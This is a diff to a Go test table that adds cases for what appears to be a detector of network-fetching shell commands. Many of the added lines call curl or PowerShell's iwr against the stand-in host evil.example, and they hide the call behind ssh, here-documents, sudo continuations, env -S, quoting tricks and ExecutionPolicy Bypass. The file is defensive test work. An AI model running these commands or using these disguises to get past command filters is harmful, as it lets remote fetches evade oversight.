@@ -52,6 +52,11 @@ var commandLines = []struct{ why, line, program string }{
 	{"after a carriage return, as terminals send it", "ls\rcurl evil.example\r", "curl"},
 	{"in a subshell", "(cd /tmp; curl evil.example)", "curl"},
 	{"in braces", "{ curl evil.example; }", "curl"},
+	{"in a function with a name", "function get { curl evil.example; }; get", "curl"},
+	{"in a line that goes on", "cd /tmp && \\\n  curl evil.example", "curl"},
+	{"behind sudo, in a line that goes on", "sudo \\\n  -u bob \\\n  curl evil.example", "curl"},
+	{"into a file, in a line that goes on", "> \\\n page curl evil.example", "curl"},
+	{"an argument, in a line that goes on", "grep -r \\\n  curl notes", ""},
 	{"in a function", "get() { curl evil.example; }; get", "curl"},
 	{"after then", "if true; then curl evil.example; fi", "curl"},
 	{"after else", "if false; then ls; else curl evil.example; fi", "curl"},
@@ -119,6 +124,22 @@ var commandLines = []struct{ why, line, program string }{
 	{"cmd, and its quotes", `cmd.exe /d /s /C "curl -s evil.example | more"`, "curl"},
 	{"cmd, of a path", "cmd //c /usr/bin/curl evil.example", "curl"},
 	{"cmd, of something else", "cmd /c type curl.txt", ""},
+	{"cmd, of a program of its own", "cmd /c start /wait curl evil.example", "curl"},
+	{"another machine's shell", "ssh -p 22 bob@host 'curl evil.example'", "curl"},
+	{"another machine's shell, in words", "ssh host curl evil.example", "curl"},
+	{"what another machine's shell reads", "ssh host <<'EOF'\ncurl evil.example\nEOF", "curl"},
+	{"another machine, whatever it is called", "ssh mail ls", "ssh"},
+	{"env -S, in one word", "env -S'curl evil.example'", "curl"},
+	{"env -S, in full", "env --split-string='curl evil.example'", "curl"},
+	{"su, and its long option", "su bob --command='curl evil.example'", "curl"},
+	{"the C shell", "tcsh -c 'curl evil.example'", "curl"},
+	{"PowerShell", "powershell -NoProfile -ExecutionPolicy Bypass -Command iwr evil.example", "iwr"},
+	{"PowerShell, into a variable", "$page = iwr https://evil.example; $page.Content", "iwr"},
+	{"PowerShell, in a block", "try { iwr https://evil.example } catch { 1 }", "iwr"},
+	{"a variable that may be empty", "$SUDO curl evil.example", "curl"},
+	{"a command that may print nothing", `"$(command -v sudo)" curl evil.example`, "curl"},
+	{"a variable of something else", "$GREP -r curl", ""},
+	{"the words of a variable's command", "$GREP pattern curl", ""},
 
 	// however it is spelt
 	{"with its path", "/usr/bin/curl evil.example", "curl"},
@@ -131,6 +152,9 @@ var commandLines = []struct{ why, line, program string }{
 	{"in capitals", "CURL evil.example", "curl"},
 	{"of Windows", "curl.exe evil.example", "curl"},
 	{"of PowerShell", "Invoke-WebRequest https://evil.example", "invoke-webrequest"},
+	{"after a quote that a backslash keeps open", `echo $'it\'s'; curl evil.example; echo 'done'`, "curl"},
+	{"after a line break that a backslash names", `bash -c $'cd /tmp\ncurl evil.example'`, "curl"},
+	{"after what looks like a comment", "echo ${page/ #/}; curl evil.example", "curl"},
 	{"after an apostrophe that is no quote", "echo it's; curl evil.example", "curl"},
 
 	// here-documents
@@ -141,6 +165,8 @@ var commandLines = []struct{ why, line, program string }{
 	{"what a shell reads", "bash <<'EOF'\ncurl evil.example\nEOF", "curl"},
 	{"what a shell reads further on", "cat <<'EOF' | sh\ncurl evil.example\nEOF", "curl"},
 	{"a string that a shell reads", "bash <<< 'curl evil.example'", "curl"},
+	{"a sum, which is none", "echo $((1<<ls))\ncurl evil.example\nls", "curl"},
+	{"a sum alone, which is none", "((n = 1 << ls))\ncurl evil.example\nls", "curl"},
 	{"one that never ends", "echo $((1<<2))\ncurl evil.example", "curl"},
 
 	// several, and those that only sometimes fetch
@@ -178,6 +204,7 @@ var commandLines = []struct{ why, line, program string }{
 	{"yarn dlx", "yarn dlx some-package", "yarn"},
 	{"bun x", "bun x some-package", "bun"},
 	{"uv tool run", "uv tool run some-package", "uv"},
+	{"uv tool run, behind an option", "uv --quiet tool run some-package", "uv"},
 	{"uv at home", "uv run pytest; uv tool list; uv pip install x", ""},
 
 	// what a shell itself connects to
